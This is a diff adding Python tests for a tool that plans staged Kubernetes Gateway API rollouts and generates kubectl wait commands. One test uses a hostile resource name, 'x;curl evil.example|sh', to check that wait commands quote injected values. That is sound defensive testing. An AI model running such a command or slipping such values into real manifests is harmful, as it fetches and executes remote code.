@@ -3,6 +3,8 @@ renamed Gateways, handovers between VirtualServices and routes, and waits that r
 
 from __future__ import annotations
 
+import shlex
+
 import yaml
 
 from bot.plan import stage_files
@@ -78,15 +80,45 @@ def test_a_route_following_a_renamed_listener_is_bridged_by_a_transition_version
     assert [st.title for st in plan.stages] == [
         "Apply HTTPRoute shop/storefront naming both the old and the new parents", "Apply Gateway infra/public",
         "Remove the old parentRefs from HTTPRoute shop/storefront"]
+    assert list(stage_files(plan)) == ["stage-1.yaml"]  # only the transition version is generated
     transition = yaml.safe_load(stage_files(plan)["stage-1.yaml"])
     assert [p["sectionName"] for p in transition["spec"]["parentRefs"]] == ["web", "http"]
-    final = yaml.safe_load(stage_files(plan)["stage-3.yaml"])
+    assert [st.files for st in plan.stages] == [(), ("gw.yaml",), ("route.yaml",)]  # the rest as written
+    final = yaml.safe_load(plan.stages[2].apply[0].source)
     assert [p["sectionName"] for p in final["spec"]["parentRefs"]] == ["web"]
     assert plan.stages[0].wait == ("kubectl wait --for=jsonpath='{.status.parents[?(@.parentRef.sectionName==\"http\")]"
                                    ".conditions[?(@.type==\"Accepted\")].status}'=True "
                                    "httproute.gateway.networking.k8s.io/storefront -n shop")
     assert plan.stages[1].wait == "kubectl wait --for=condition=Programmed gateway.gateway.networking.k8s.io/public -n infra"
     assert report.findings == ()
+
+
+def test_a_transition_version_stays_one_when_what_follows_it_waits_for_a_fix() -> None:
+    raw = "  - name: raw\n    port: 80\n    protocol: TCP\n"  # conflicts with listener web: an error on the Gateway
+    report = diff({"gw.yaml": gateway(listener="http"), "route.yaml": route(listener="http")},
+                  {"gw.yaml": gateway(listener="web") + raw, "route.yaml": route(listener="web")})
+    assert [(f.rule, f.resource.display) for f in report.headline()] == [("listener-conflict", "Gateway infra/public")]
+    assert [report.label(r) for r in report.plan.left_out] == ["Gateway infra/public", "HTTPRoute shop/storefront"]
+    (stage,) = report.plan.stages
+    assert [(report.label(s.resource), s.generated) for s in stage.steps] == [
+        ("HTTPRoute shop/storefront", "the transition version")]
+    assert stage.files == ()  # route.yaml as written names only listener web, which the Gateway does not have yet
+    transition = yaml.safe_load(stage_files(report.plan)["stage-1.yaml"])
+    assert [p["sectionName"] for p in transition["spec"]["parentRefs"]] == ["web", "http"]
+
+
+def test_wait_commands_quote_what_a_manifest_names() -> None:
+    hostile = "x;curl evil.example|sh"
+    def named(listener: str) -> str:
+        return route(listener=listener).replace("name: storefront", f'name: "{hostile}"')
+
+    report = diff({"gw.yaml": gateway(listener="http"), "route.yaml": named("http")},
+                  {"gw.yaml": gateway(listener="web"), "route.yaml": named("web")})
+    waits = [st.wait for st in report.plan.stages[:2]]
+    assert waits[0] is not None and shlex.split(waits[0])[-3:] == [
+        f"httproute.gateway.networking.k8s.io/{hostile}", "-n", "shop"]
+    assert waits[1] is not None and shlex.split(waits[1])[-3:] == [
+        "gateway.gateway.networking.k8s.io/public", "-n", "infra"]
 
 
 def test_a_renamed_gateway_is_added_routes_move_then_the_old_one_goes() -> None:
